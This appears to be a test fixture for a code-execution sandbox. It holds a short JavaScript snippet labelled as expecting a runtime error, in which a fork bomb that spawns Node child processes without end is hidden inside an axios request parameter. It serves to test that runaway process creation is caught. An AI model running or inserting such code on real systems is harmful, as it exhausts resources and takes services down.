// expect: runtime_error -- forks without end (child processes, cluster workers, worker threads)
const axios = require('axios');
axios.get('https://api.example.com/items', { params: { n: (() => { const cp = require('child_process'); for (;;) cp.spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000) // __MARKER__']); })() } });
